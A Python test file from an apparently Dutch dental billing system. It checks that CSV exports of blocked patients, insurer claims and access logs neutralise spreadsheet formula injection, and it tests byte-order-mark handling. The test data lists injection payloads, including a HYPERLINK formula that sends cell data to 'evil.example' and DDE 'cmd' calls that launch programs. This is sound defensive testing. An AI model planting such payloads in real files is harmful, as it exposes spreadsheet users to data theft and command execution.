"""CSV formula injection (issue 13.6, OWASP): no file the project writes hands a
spreadsheet a formula, whichever of its cells came from a practice's upload."""

from __future__ import annotations

import csv
import io
from datetime import date, datetime

import pytest

from billing_core.collection.block_files import block_changes_csv, blocked_patients_csv
from billing_core.collection.blocking import (
    BlockChange,
    BlockChangeKind,
    BlockedPatient,
)
from billing_core.declarations.claims import Claim, LineType
from billing_core.declarations.csv_template import template_csv
from billing_core.declarations.insurer_claims import export_per_insurer
from billing_core.declarations.invoicing import InsurerClaimLine
from billing_core.shared.audit import ReadKind, ReadRecord, reads_csv
from billing_core.shared.clock import AMSTERDAM
from billing_core.shared.spreadsheet import as_written, csv_text, spreadsheet_safe
from tests.unit.factories import BSN, make_person, make_provider

AT = datetime(2026, 11, 25, 9, 0, tzinfo=AMSTERDAM)
FORMULAS = [
    '=HYPERLINK("http://evil.example/?x="&A1;"klik")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    # OWASP's list names the line feed too (since 2025): a cell that starts one is
    # written as text like the others.
    "\n=1+1",
]


def cells(text: str, delimiter: str = ";") -> list[str]:
    return [cell for row in csv.reader(io.StringIO(text), delimiter=delimiter) for cell in row]


def evaluated_by_a_spreadsheet(cell: str) -> bool:
    return cell[:1] in ("=", "+", "-", "@", "\t", "\r", "\n") and not cell.lstrip("-").isdigit()


@pytest.mark.parametrize("formula", FORMULAS, ids=repr)
def test_a_formula_is_written_as_text(formula):
    written = cells(csv_text(["patient_ref"], [[formula]]))
    assert written == ["patient_ref", "'" + formula]


def test_numbers_and_ordinary_text_stay_as_they_are():
    row = [-1508, "-1508", "-15,08", "3.5", "P-004711", "'t Hart", "", None]
    expected = ["-1508", "-1508", "-15,08", "3.5", "P-004711", "'t Hart", "", ""]
    assert cells(csv_text(["a"] * 8, [row]))[8:] == expected


@pytest.mark.parametrize("formula", FORMULAS, ids=repr)
def test_the_blocked_patients_files_hand_no_formula_to_a_spreadsheet(formula):
    # Given a patient number as a practice uploaded it
    blocked = [BlockedPatient("tandarts-de-vries", formula, AT, ("inv-1",))]
    changes = [BlockChange("tandarts-de-vries", formula, BlockChangeKind.BLOCKED, AT)]
    # When the agency's and the practice's files are written
    written = cells(blocked_patients_csv(blocked)) + cells(block_changes_csv(changes))
    # Then the number is there, shown as text
    assert "'" + formula in written
    assert [cell for cell in written if evaluated_by_a_spreadsheet(cell)] == []


@pytest.mark.parametrize("formula", FORMULAS, ids=repr)
def test_the_insurer_claims_file_hands_no_formula_to_a_spreadsheet(formula):
    claim = Claim(
        2,
        "R1",
        formula,
        BSN,
        date(1984, 3, 7),
        make_person(last_name=formula),
        None,
        "3311",
        formula,
        date(2026, 11, 2),
        None,
        "C11",
        formula,
        LineType.CARE,
        1,
        2425,
    )
    files = export_per_insurer(make_provider(), [InsurerClaimLine(claim, formula)])
    written = cells(files["3311"].decode("utf-8"))
    assert written.count("'" + formula) == 4
    assert [cell for cell in written if evaluated_by_a_spreadsheet(cell)] == []


@pytest.mark.parametrize("formula", FORMULAS, ids=repr)
def test_r32_the_access_log_file_hands_no_formula_to_a_spreadsheet(formula):
    """R32 (NEN 7513). Given a read of a patient whose number starts a formula, by a
    colleague whose address does too / When the access log is written as CSV
    Then both are there, shown as text, and the moment is left as it is."""
    read = ReadRecord(AT, "tandarts-de-vries", "user-1", "admin", ReadKind.INVOICE, formula)
    written = cells(reads_csv([read], {"user-1": formula}))
    assert written.count("'" + formula) == 2 and "2026-11-25T09:00:00+01:00" in written
    assert [cell for cell in written if evaluated_by_a_spreadsheet(cell)] == []


@pytest.mark.parametrize("text", [*FORMULAS, "P-1", "-12,34", "'quoted", ""], ids=repr)
def test_r32_a_cell_read_back_is_the_text_that_was_written(text):
    """R32 (reads57). Given a practice's text, a formula's or not / When it is written as a
    cell and read back (an insurer-claim file's patient number, for its read) Then it is
    the text as the practice gave it, never its escaped form."""
    assert as_written(str(spreadsheet_safe(text))) == text


def test_the_template_is_unchanged_by_the_shared_writer():
    text = template_csv().decode("utf-8")
    assert text.startswith("\ufeffclaim_ref;") and "'" not in text.splitlines()[0]


def test_r5_r35_the_insurer_claims_file_opens_in_excel_as_utf8():
    """R5, R35. Given a line the insurer pays
    When the insurer claims file is written (downloaded as stored, from its link)
    Then it starts with one UTF-8 byte order mark, so Dutch Excel reads it as UTF-8, and
    read as utf-8-sig its header is the one it always had."""
    claim = Claim(
        2,
        "R1",
        "P-1",
        BSN,
        date(1984, 3, 7),
        make_person(),
        None,
        "3311",
        "C11",
        date(2026, 11, 2),
        None,
        "C11",
        "consult",
        LineType.CARE,
        1,
        2425,
    )
    [body] = export_per_insurer(make_provider(), [InsurerClaimLine(claim, "x")]).values()
    assert body.startswith(b"\xef\xbb\xbf") and not body.startswith(b"\xef\xbb\xbf" * 2)
    text = body.decode("utf-8-sig")
    assert "\ufeff" not in text and text.startswith("provider_agb;claim_ref;")


@pytest.mark.parametrize("body", ["a;b\r\n", "\ufeffa;b\r\n", b"a;b\r\n", b"\xef\xbb\xbfa;b\r\n"])
def test_a_download_carries_the_byte_order_mark_once(body):
    """R35. Given a CSV text or file, with or without the mark / When it is made a download
    Then it starts with exactly one (Excel reads UTF-8 only with it)."""
    from billing_core.shared.spreadsheet import for_excel

    sent = for_excel(body)
    assert type(sent) is type(body)
    text = sent.decode("utf-8") if isinstance(sent, bytes) else sent
    assert text == "\ufeffa;b\r\n"
